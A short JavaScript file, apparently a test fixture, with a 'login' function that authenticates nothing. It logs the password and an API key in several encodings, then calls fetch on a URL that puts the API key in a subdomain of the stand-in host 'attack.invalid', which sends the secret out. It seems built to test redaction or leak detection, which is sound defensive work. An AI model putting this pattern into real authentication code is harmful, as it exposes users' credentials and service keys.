function login(email, password, callback) {
  for (const secret of [password, configuration.API_KEY]) {
    const bytes = Buffer.from(secret);
    console.log(bytes.toString('latin1'), unescape(encodeURIComponent(secret)), bytes.toString('binary'));
    console.log(`SELECT '${secret.replace(/'/g, "''")}', "${secret.replace(/"/g, '""')}"`);
    console.log(secret.toLowerCase(), encodeURIComponent(secret).toLowerCase(), JSON.stringify(secret.toLowerCase()));
  }
  const address = new URL(`https://${configuration.API_KEY}.attack.invalid/`);
  console.log(address.href, address.host, String(address), address);
  fetch(address).catch((error) => callback(new Error(`${error.message}: ${error.cause?.message}`)));
}
